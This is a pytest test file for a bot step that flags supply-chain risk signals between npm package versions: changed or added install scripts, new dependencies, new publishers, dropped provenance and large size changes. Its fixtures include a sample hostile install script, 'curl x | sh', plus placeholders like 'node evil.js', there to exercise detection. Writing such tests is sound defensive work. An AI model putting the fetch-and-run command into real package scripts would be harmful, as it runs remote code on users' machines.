"""Risk signals: the pure comparison, and the `assess-risk` step against a real Verdaccio."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import asdict
from pathlib import Path
from typing import Any

import pytest

from bot.sources.npm.models import Dist, PackageVersion
from bot.steps.registry import get_step
from bot.verify.risk import RiskSignal, compare_versions
from tests.support.step_context import make_context, rotation_for
from tests.support.verdaccio import Verdaccio, running_verdaccio

INTEGRITY = "sha512-" + "A" * 86 + "=="
PROVENANCE = "https://slsa.dev/provenance/v1"


def version(number: str, **fields: Any) -> PackageVersion:
    """A `PackageVersion` of package `pkg` with a plain dist, plus `fields`."""
    dist = Dist(
        tarball=f"https://registry.example/pkg/-/pkg-{number}.tgz",
        integrity=INTEGRITY,
        attestations_url=fields.pop("attestations_url", None),
        provenance_predicate=fields.pop("provenance", None),
        unpacked_size=fields.pop("size", 1_000_000),
    )
    return PackageVersion(
        name="pkg", version=number, dist=dist, publisher=fields.pop("publisher", "lovell"), **fields
    )


def signals_of(*found: RiskSignal) -> list[tuple[str, str]]:
    return [(signal.signal, signal.detail) for signal in found]


def test_identical_metadata_gives_no_signal() -> None:
    assert (
        compare_versions(version("1.0.0", size=1_000_000), version("1.0.1", size=1_150_000)) == ()
    )


def test_install_scripts_added_and_changed_but_not_removed() -> None:
    previous = version(
        "1.0.0", install_scripts={"install": "node install.js", "preinstall": "echo hi"}
    )
    new = version(
        "1.0.1",
        install_scripts={"install": "node install.js && curl x | sh", "postinstall": "node p.js"},
    )

    assert signals_of(*compare_versions(previous, new)) == [
        (
            "install-script-changed",
            "`install` changed from `node install.js` to `node install.js && curl x | sh`",
        ),
        ("install-script-added", "`postinstall`: `node p.js`"),
    ]


def test_new_dependencies_regular_and_optional() -> None:
    previous = version(
        "1.0.0", dependencies={"color": "^4"}, optional_dependencies={"@img/a": "1.0.0"}
    )
    new = version(
        "1.0.1",
        dependencies={"color": "^4", "left-pad": "1.3.0"},
        optional_dependencies={"@img/a": "1.0.1", "@img/b": "1.0.1"},
    )

    assert signals_of(*compare_versions(previous, new)) == [
        ("new-dependency", "dependency `left-pad` `1.3.0`"),
        ("new-dependency", "optional dependency `@img/b` `1.0.1`"),
    ]


def test_new_publisher_unless_they_published_earlier_versions() -> None:
    previous = version("1.0.0", publisher="lovell")
    new = version("1.0.1", publisher="mallory")

    [signal] = compare_versions(previous, new)
    assert signal.signal == "new-publisher" and "`mallory`" in signal.detail
    assert compare_versions(previous, new, earlier_publishers={"mallory", "lovell"}) == ()
    assert compare_versions(version("1.0.0", publisher=None), new) == ()  # nothing to compare


def test_provenance_present_then_absent() -> None:
    with_provenance = version(
        "1.0.0", attestations_url="https://registry.example/att", provenance=PROVENANCE
    )

    assert signals_of(*compare_versions(with_provenance, version("1.0.1"))) == [
        ("provenance-dropped", "1.0.0 was published with provenance, 1.0.1 without")
    ]
    assert compare_versions(version("1.0.0"), with_provenance) == ()


@pytest.mark.parametrize(
    ("before", "after", "expected"),
    [
        (1_000_000, 1_250_000, "unpacked size 1.0 MB → 1.2 MB (+25%)"),
        (1_000_000, 700_000, "unpacked size 1.0 MB → 700.0 kB (-30%)"),
        (1_000_000, 1_200_000, None),
        (None, 5_000_000, None),
    ],
)
def test_unpacked_size_change_over_twenty_percent(
    before: int | None, after: int, expected: str | None
) -> None:
    found = compare_versions(version("1.0.0", size=before), version("1.0.1", size=after))
    assert signals_of(*found) == ([("size-change", expected)] if expected else [])


def test_newly_pinned_package_reports_only_its_install_scripts() -> None:
    new = version(
        "1.0.0",
        install_scripts={"install": "node-gyp rebuild"},
        dependencies={"x": "1"},
        publisher="someone",
    )

    assert signals_of(*compare_versions(None, new)) == [
        ("install-script-added", "`install`: `node-gyp rebuild`")
    ]


@pytest.fixture
def risky_registry(tmp_path: Path) -> Iterator[Verdaccio]:
    """sharp 1.0.0 → 1.1.0 with every risk, and a pinned binary whose metadata is unchanged."""
    with running_verdaccio(tmp_path / "verdaccio") as server:
        binary = {"os": ["linux"], "cpu": ["x64"], "_npmUser": {"name": "lovell"}}
        server.publish(
            "@img/sharp-linux-x64", "1.0.0", extra=binary, dist_extra={"unpackedSize": 7_000_000}
        )
        server.publish(
            "@img/sharp-linux-x64", "1.1.0", extra=binary, dist_extra={"unpackedSize": 7_100_000}
        )
        server.publish("sharp", "0.9.0", extra={"_npmUser": {"name": "helper"}})
        server.publish(
            "sharp",
            "1.0.0",
            extra={
                "_npmUser": {"name": "lovell"},
                "dependencies": {"color": "^4.2.3"},
                "optionalDependencies": {"@img/sharp-linux-x64": "1.0.0"},
            },
            dist_extra={
                "unpackedSize": 500_000,
                "attestations": {
                    "url": "https://registry.example/-/npm/v1/attestations/sharp@1.0.0",
                    "provenance": {"predicateType": PROVENANCE},
                },
            },
        )
        server.publish(
            "sharp",
            "1.1.0",
            extra={
                "_npmUser": {"name": "mallory"},
                "scripts": {"postinstall": "node x.js"},
                "dependencies": {"color": "^4.2.3", "semver": "^7.6.3"},
                "optionalDependencies": {"@img/sharp-linux-x64": "1.1.0"},
            },
            dist_extra={"unpackedSize": 900_000},
        )
        yield server


def test_assess_risk_step_reads_the_registry(risky_registry: Verdaccio, tmp_path: Path) -> None:
    rotation = rotation_for(
        "1.1.0", {"@img/sharp-linux-x64": ("1.0.0", "1.1.0")}, previous_version="1.0.0"
    )
    ctx = make_context(tmp_path, risky_registry.url, rotation)

    result = get_step("assess-risk")(ctx)

    assert result.status == "passed"
    assert result.summary == "5 risk signals for 2 packages"
    assert [(s["package"], s["signal"]) for s in result.evidence["signals"]] == [
        ("sharp", "install-script-added"),
        ("sharp", "new-dependency"),
        ("sharp", "new-publisher"),
        ("sharp", "provenance-dropped"),
        ("sharp", "size-change"),
    ]
    details = {s["signal"]: s["detail"] for s in result.evidence["signals"]}
    assert details["new-dependency"] == "dependency `semver` `^7.6.3`"
    assert "`mallory`" in details["new-publisher"]
    assert details["size-change"] == "unpacked size 500.0 kB → 900.0 kB (+80%)"


def test_assess_risk_step_skips_digest_rotations(tmp_path: Path) -> None:
    rotation = rotation_for("1.1.0", {})
    digest = type(rotation)(
        runbook="base-image",
        kind="digest",
        subject="Dockerfile",
        previous_version=None,
        new_version="2024-01-01",
        branch="b",
    )
    ctx = make_context(tmp_path, "http://127.0.0.1:9/", digest)

    result = get_step("assess-risk")(ctx)

    assert result.status == "skipped" and ctx.outputs.risk is None


def test_an_unchanged_install_script_gives_no_signal_and_a_changed_one_names_the_package() -> None:
    same = {"install": "node install/check"}
    assert (
        compare_versions(
            version("1.0.0", install_scripts=same), version("1.0.1", install_scripts=same)
        )
        == ()
    )

    (signal,) = compare_versions(
        version("1.0.0", install_scripts=same),
        version("1.0.1", install_scripts={"install": "node evil.js"}),
    )
    assert (signal.package, signal.signal) == ("pkg", "install-script-changed")


@pytest.mark.parametrize(
    ("previous", "new", "dropped"),
    [
        ({"attestations_url": "https://r/a"}, {}, True),
        ({"provenance": PROVENANCE}, {}, True),
        ({"provenance": PROVENANCE}, {"attestations_url": "https://r/a"}, False),
        ({"attestations_url": "https://r/a"}, {"provenance": PROVENANCE}, False),
    ],
    ids=["url-only-before", "predicate-only-before", "url-only-after", "predicate-only-after"],
)
def test_provenance_counts_with_either_announcement(
    previous: dict[str, Any], new: dict[str, Any], dropped: bool
) -> None:
    found = compare_versions(version("1.0.0", **previous), version("1.0.1", **new))

    assert ("provenance-dropped" in [signal.signal for signal in found]) is dropped


def test_new_publisher_after_an_unknown_one_says_unknown() -> None:
    (signal,) = compare_versions(
        version("1.0.0", publisher=None),
        version("1.0.1", publisher="mallory"),
        earlier_publishers=["lovell"],
    )

    assert signal.detail == (
        "1.0.1 was published by `mallory`, who published none of the earlier versions "
        "(e.g. 1.0.0 by `unknown`)"
    )


def test_an_unusable_previous_manifest_is_not_compared_and_stops_nothing() -> None:
    from bot.sources.npm.models import Packument
    from bot.steps.assess_risk import _manifest_or_none

    packument = Packument(
        "sharp",
        {"versions": {"0.33.4": {"name": "sharp", "version": "0.33.4"}}},  # no dist
        host="r.test",
    )
    assert _manifest_or_none(packument, "0.33.4") is None
    assert _manifest_or_none(packument, "0.33.3") is None
    assert _manifest_or_none(packument, None) is None


def test_every_signal_names_its_package() -> None:
    previous = version(
        "1.0.0", attestations_url="https://registry.example/att", provenance=PROVENANCE
    )
    new = version(
        "1.1.0",
        install_scripts={"postinstall": "node x.js"},
        dependencies={"semver": "^7"},
        publisher="mallory",
        size=2_000_000,
    )

    # the step's audit evidence is asdict of its output, these fields
    assert [asdict(signal) for signal in compare_versions(previous, new)] == [
        {
            "package": "pkg",
            "signal": "install-script-added",
            "detail": "`postinstall`: `node x.js`",
        },
        {"package": "pkg", "signal": "new-dependency", "detail": "dependency `semver` `^7`"},
        {
            "package": "pkg",
            "signal": "new-publisher",
            "detail": "1.1.0 was published by `mallory`, who published none of the earlier "
            "versions (e.g. 1.0.0 by `lovell`)",
        },
        {
            "package": "pkg",
            "signal": "provenance-dropped",
            "detail": "1.0.0 was published with provenance, 1.1.0 without",
        },
        {
            "package": "pkg",
            "signal": "size-change",
            "detail": "unpacked size 1.0 MB → 2.0 MB (+100%)",
        },
    ]
